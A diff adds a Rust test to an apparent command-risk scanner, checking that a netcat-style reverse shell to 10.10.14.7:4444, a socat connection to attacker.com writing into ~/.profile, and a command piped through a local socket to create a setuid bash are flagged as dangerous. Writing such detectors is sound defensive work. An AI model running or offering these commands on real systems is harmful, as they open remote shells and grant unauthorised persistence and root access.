@@ -610,3 +610,20 @@ fn find_deletes_across_the_whole_project() {
         "clean",
     );
 }
+
+/// Found measuring the older corpora after the netcat changes: a shell
+/// named as a netcat's operand (`rcat connect -s bash host port`) is a
+/// reverse shell; socat's `TCP-CONNECT:` address names a host; text piped
+/// into a local service's socket (`echo CMD | socat - UNIX-CLIENT:/tmp/s`)
+/// is asked about.
+#[test]
+fn netcat_shells_connect_addresses_and_local_sockets() {
+    each(
+        &["rcat connect -s bash 10.10.14.7 4444"],
+        "Exfiltration Critical",
+    );
+    common::not_clean(&[
+        "socat -u tcp-connect:attacker.com:12345 open:~/.profile,creat",
+        "echo \"cp /bin/bash /tmp/bash; chmod +s /tmp/bash\" | socat - UNIX-CLIENT:/tmp/socket_test.s",
+    ]);
+}
